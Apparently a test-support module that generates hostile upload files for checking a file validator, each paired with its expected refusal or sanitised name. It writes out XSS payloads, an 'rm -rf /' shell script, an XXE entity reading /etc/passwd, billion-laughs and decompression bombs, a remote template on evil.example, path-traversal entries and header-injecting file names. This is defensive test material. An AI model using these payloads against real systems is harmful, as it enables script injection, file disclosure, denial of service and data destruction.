import { deflateSync } from "node:zlib";
import sharp from "sharp";
import { heic, type Part, pdf, sheet, word, zip } from "#tests/support/documents.ts";
import { box, film } from "#tests/support/media.ts";
import { picture, png, pngChunk } from "#tests/support/pictures.ts";

export type HostileFile = {
  /** What is wrong with it. */
  what: string;
  name: string;
  type: string;
  bytes: Buffer;
  /** The size it is announced with, when it lies. */
  announced?: number;
  /** The key of the refusal; without one it is taken in, and must be harmless. */
  refused?: string;
  /** Values of the refusal. */
  values?: Record<string, string | number>;
  /** What it is called afterwards. */
  shown?: string;
  /** What nobody may find in anything that is given out. */
  gone?: string;
};

const SCRIPT = "<script>alert(document.cookie)</script>";
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;
const MB = 1024 * 1024;
const text = (content: string) => Buffer.from(content, "latin1");
const patched = (bytes: Buffer, change: (copy: Buffer) => void): Buffer => {
  const copy = Buffer.from(bytes);
  change(copy);
  return copy;
};
const REMOTE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate";
const remote: Part = {
  name: "word/_rels/settings.xml.rels",
  text: `<Relationships><Relationship Id="a" Type="${REMOTE}" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>`,
};
const entity = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>';
const laughs = `<!DOCTYPE a [<!ENTITY l0 "LAUGH">${Array.from({ length: 12 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join("")}]>`;
const inWord = (xml: string) =>
  zip([
    { name: "[Content_Types].xml", text: "<Types/>" },
    { name: "word/document.xml", text: xml },
  ]);
const jpg = { name: "photo.jpg", type: "image/jpeg" };
const doc = { name: "report.docx", type: "application/vnd.openxmlformats-officedocument.wordprocessingml.document" };
const xls = { name: "list.xlsx", type: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" };
const paper = { name: "manual.pdf", type: "application/pdf" };
const clip = { name: "clip.mp4", type: "video/mp4" };

/** Made anew for each run; nothing hostile lies in the repository. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const [jpeg, webp, gif, avif] = await Promise.all(
    (["jpeg", "webp", "gif", "avif"] as const).map((format) => picture(format)),
  );
  if (!jpeg || !webp || !gif || !avif) throw new Error("no pictures");
  const rows = deflateSync(Buffer.alloc(301));
  const pixels = deflateSync(Buffer.alloc(300 * 601));
  const bombed = deflateSync(deflateSync(Buffer.alloc(400 * MB)));
  return [
    // Not what they say
    { what: "nothing in it", ...paper, bytes: Buffer.alloc(0), refused: "file-empty" },
    { what: "a program", name: "tool.exe", type: "application/x-msdownload", bytes: text("MZ"), refused: "file-type" },
    { what: "two endings", name: "report.pdf.exe", type: "", bytes: text("MZ"), refused: "file-type" },
    { what: "a program called PDF", ...paper, bytes: text("MZ\x90\0This program cannot be run"), refused: "file-type" },
    { what: "a Linux program called film", ...clip, bytes: text("\x7fELF\x02\x01\x01"), refused: "file-type" },
    {
      what: "a shell script called drawing",
      name: "a.dxf",
      type: "",
      bytes: text("#!/bin/sh\nrm -rf /\n"),
      refused: "file-type",
    },
    { what: "a page called Word", ...doc, bytes: text(`<!DOCTYPE html>${SCRIPT}`), refused: "file-type" },
    { what: "a page", name: "index.html", type: "text/html", bytes: text(SCRIPT), refused: "file-type" },
    {
      what: "an old Excel file with room for macros",
      ...xls,
      bytes: text("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".padEnd(600, "\0")),
      refused: "file-type",
    },
    {
      what: "an archive",
      name: "all.zip",
      type: "application/zip",
      bytes: zip([{ name: "a", text: "a" }]),
      refused: "file-type",
    },
    { what: "an archive called Word", ...doc, bytes: zip([{ name: "a", text: "a" }]), refused: "file-type" },
    {
      what: "a picture format with a history",
      ...jpg,
      bytes: text("II*\0\x08\0\0\0".padEnd(300, "\0")),
      refused: "file-type",
    },
    // Scripts
    { what: "a drawing with a script", name: "a.svg", type: "image/svg+xml", bytes: text(SVG), refused: "file-type" },
    { what: "a drawing with a script called photo", ...jpg, bytes: text(SVG), refused: "file-type" },
    {
      what: "a drawing behind a comment",
      ...jpg,
      bytes: text(`<!-- ${" ".repeat(300)} -->${SVG}`),
      refused: "file-type",
    },
    { what: "a script in a PDF", ...paper, bytes: pdf("x", "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>") },
    // Two in one
    {
      what: "GIF and JavaScript",
      name: "a.gif",
      type: "image/gif",
      bytes: Buffer.concat([text("GIF89a/*"), gif.subarray(8), text("*/=1;alert(1)//")]),
      gone: "alert",
    },
    { what: "a picture with a script behind it", ...jpg, bytes: Buffer.concat([jpeg, text(SCRIPT)]), gone: "script" },
    {
      what: "a picture with an archive behind it",
      ...jpg,
      bytes: Buffer.concat([jpeg, word("SECRET")]),
      gone: "word/document.xml",
    },
    {
      what: "a picture with a script in a note",
      name: "a.png",
      type: "image/png",
      bytes: png(200, 300, pixels, pngChunk("tEXt", text(`Comment\0${SCRIPT}`))),
      gone: "script",
    },
    { what: "PDF and page", ...paper, bytes: text(`%PDF-1.4\n<html>${SCRIPT}</html>\n%%EOF`), refused: "file-type" },
    { what: "PDF and archive", ...paper, bytes: Buffer.concat([pdf("x"), word("x")]), refused: "file-two-in-one" },
    {
      what: "film and archive",
      ...clip,
      bytes: Buffer.concat([film(), box("free", word("x"))]),
      refused: "file-two-in-one",
    },
    { what: "film and page", ...clip, bytes: Buffer.concat([film(), box("free", text(SCRIPT))]), gone: "script" },
    // Bombs and huge dimensions
    {
      what: "65,535 × 65,535 pixels in the head",
      name: "a.png",
      type: "image/png",
      bytes: png(65_535, 65_535, rows),
      refused: "photo-broken",
    },
    {
      what: "72 million real pixels",
      name: "a.png",
      type: "image/png",
      bytes: await sharp({ create: { width: 9_000, height: 8_000, channels: 3, background: "white" } })
        .png()
        .toBuffer(),
      refused: "photo-broken",
    },
    {
      what: "pixels that unpack to 500 MB",
      name: "a.png",
      type: "image/png",
      bytes: png(1, 100, deflateSync(Buffer.alloc(500 * MB))),
      gone: "IDAT",
    },
    {
      what: "a note that unpacks to 300 MB",
      name: "a.png",
      type: "image/png",
      bytes: png(
        200,
        300,
        pixels,
        pngChunk("zTXt", Buffer.concat([text("a\0\0"), deflateSync(Buffer.alloc(300 * MB, 65))])),
      ),
      gone: "AAAA",
    },
    {
      what: "a GIF of 65,535 × 65,535",
      name: "a.gif",
      type: "image/gif",
      bytes: patched(gif, (b) => b.fill(0xff, 6, 10)),
      gone: "GIF89a",
    },
    {
      what: "a WebP of 16,383 × 16,383",
      name: "a.webp",
      type: "image/webp",
      bytes: patched(webp, (b) => b.fill(0x3f, 26, 30)),
      refused: "photo-broken",
    },
    {
      what: "a HEIC of 60,000 × 60,000",
      name: "a.heic",
      type: "image/heic",
      bytes: patched(heic(), (b) => {
        for (let at = b.indexOf("ispe"); at >= 0; at = b.indexOf("ispe", at + 4)) {
          b.writeUInt32BE(60_000, at + 8);
          b.writeUInt32BE(60_000, at + 12);
        }
      }),
      refused: "photo-broken",
    },
    {
      what: "a Word file that unpacks to 60 MB",
      ...doc,
      bytes: word("x", [{ name: "word/media/a.png", text: Buffer.alloc(60 * MB) }]),
      refused: "file-bomb",
    },
    {
      what: "a Word file that says it unpacks to 4 GB",
      ...doc,
      bytes: word("x", [{ name: "word/a.xml", text: "x", claims: 4e9 }]),
      refused: "file-bomb",
    },
    {
      what: "a Word file that says it unpacks to little",
      ...doc,
      bytes: word("x", [{ name: "word/footnotes.xml", text: Buffer.alloc(400 * MB, "<w:t>x"), claims: 10 }]),
    },
    {
      what: "an Excel file whose parts share their bytes",
      ...xls,
      bytes: sheet("x", [{ name: "xl/a.xml", text: "x", likeFirst: true }]),
      refused: "file-bomb",
    },
    {
      what: "a PDF whose page unpacks to 400 MB twice",
      ...paper,
      bytes: pdf("x", "", { filter: "/Filter [/FlateDecode /FlateDecode]", bytes: bombed }),
    },
    // Documents
    { what: "a macro", ...doc, bytes: word("x", [{ name: "word/vbaProject.bin", text: "x" }]), refused: "file-macro" },
    {
      what: "an old macro sheet",
      ...xls,
      bytes: sheet("x", [{ name: "xl/macrosheets/sheet1.xml", text: "x" }]),
      refused: "file-macro",
    },
    {
      what: "a program inside",
      ...doc,
      bytes: word("x", [{ name: "word/embeddings/a.exe", text: "MZ" }]),
      refused: "file-macro",
    },
    {
      what: "an archive inside",
      ...doc,
      bytes: word("x", [{ name: "word/embeddings/a.zip", text: zip([{ name: "a", text: "a" }]) }]),
      refused: "file-macro",
    },
    { what: "a template from elsewhere", ...doc, bytes: word("x", [remote]), refused: "file-remote" },
    {
      what: "a part outside the folder",
      ...doc,
      bytes: word("x", [{ name: "../../../etc/cron.d/a", text: "x" }]),
      refused: "file-broken",
    },
    {
      what: "a part at an absolute place",
      ...doc,
      bytes: word("x", [{ name: "/etc/passwd", text: "x" }]),
      refused: "file-broken",
    },
    {
      what: "a part twice",
      ...doc,
      bytes: word("x", [{ name: "word/document.xml", text: "y" }]),
      refused: "file-two-in-one",
    },
    { what: "an entity that reads a file", ...doc, bytes: inWord(`${entity}<w:t>&x;</w:t>`), gone: "root:" },
    {
      what: "entities that multiply",
      ...xls,
      bytes: sheet(`</t></si></sst>${laughs}<sst><si><t>&l12;`),
      gone: "LAUGHLAUGH",
    },
    // Cut off and lying
    ...(
      [
        [jpg, jpeg, "photo-broken"],
        [{ name: "a.png", type: "image/png" }, png(200, 300, pixels), "photo-broken"],
        [{ name: "a.webp", type: "image/webp" }, webp, "photo-broken"],
        [{ name: "a.avif", type: "image/avif" }, avif, "photo-broken"],
        [{ name: "a.heic", type: "image/heic" }, heic(), "photo-broken"],
        [paper, pdf("Hello"), "file-broken"],
        [doc, word("x"), "file-broken"],
        [clip, film(), "file-broken"],
        [{ name: "a.step", type: "" }, text("ISO-10303-21;\nHEADER;\nENDSEC;\nEND-ISO-10303-21;\n"), "file-broken"],
        [{ name: "a.dxf", type: "" }, text("  0\nSECTION\n  2\nENTITIES\n  0\nENDSEC\n  0\nEOF\n"), "file-broken"],
      ] as const
    ).map(([file, bytes, refused]) => ({
      what: `${file.name} cut off`,
      ...file,
      bytes: bytes.subarray(0, Math.floor(bytes.length * 0.6)),
      refused,
    })),
    {
      what: "a JPEG part longer than the file",
      ...jpg,
      bytes: patched(jpeg, (b) => b.writeUInt16BE(0xffff, 4)),
      refused: "photo-broken",
    },
    {
      what: "a box longer than the film",
      ...clip,
      bytes: patched(film(), (b) => b.writeUInt32BE(0x7fffffff, b.indexOf("mdat") - 4)),
      refused: "file-broken",
    },
    {
      what: "a box of 2^63 bytes",
      ...clip,
      bytes: Buffer.concat([film(), text("\0\0\0\x01free\x7f\xff\xff\xff\xff\xff\xff\xff")]),
      refused: "file-broken",
    },
    {
      what: "a table of four thousand million samples",
      ...clip,
      bytes: patched(film(), (b) => b.writeUInt32BE(0xffffffff, b.indexOf("stco") + 8)),
      refused: "file-broken",
    },
    {
      what: "a film without pictures and sound",
      ...clip,
      bytes: Buffer.concat([box("ftyp", text("isom\0\0\0\0mp42")), box("moov"), box("mdat", Buffer.alloc(3_000, 65))]),
      refused: "file-broken",
    },
    {
      what: "a tag longer than the recording",
      name: "a.mp3",
      type: "audio/mpeg",
      bytes: text(`ID3\x04\0\0\x7f\x7f\x7f\x7f${"\xff\xfb".repeat(50)}`),
      refused: "file-broken",
    },
    {
      what: "too large before a byte is sent",
      ...clip,
      bytes: text("x"),
      announced: 501 * MB,
      refused: "file-too-big",
      values: { max: 500 },
    },
    // Names
    { what: "a path in its name", ...paper, name: "../../../../etc/passwd.pdf", bytes: pdf("x"), shown: "passwd.pdf" },
    {
      what: "a Windows path in its name",
      ...paper,
      name: "C:\\Windows\\System32\\a.pdf",
      bytes: pdf("x"),
      shown: "a.pdf",
    },
    {
      what: "a name of 10,000 characters",
      ...paper,
      name: `${"长".repeat(9_996)}.pdf`,
      bytes: pdf("x"),
      shown: `${"长".repeat(116)}.pdf`,
    },
    {
      what: "a name that reads backwards",
      ...paper,
      name: "photo\u202Efdp.gpj.pdf",
      bytes: pdf("x"),
      shown: "photofdp.gpj.pdf",
    },
    {
      what: "control characters in its name",
      ...paper,
      name: "a\r\nSet-Cookie: x=1\0\x1b[2J.pdf",
      bytes: pdf("x"),
      shown: "aSet-Cookie: x=1[2J.pdf",
    },
    {
      what: "a tag in its name",
      ...paper,
      name: `"><img src=x onerror=alert(1)>.pdf`,
      bytes: pdf("x"),
      shown: `"><img src=x onerror=alert(1)>.pdf`,
    },
    { what: "no name at all", ...paper, name: "/.pdf", bytes: pdf("x"), shown: ".pdf" },
  ];
}
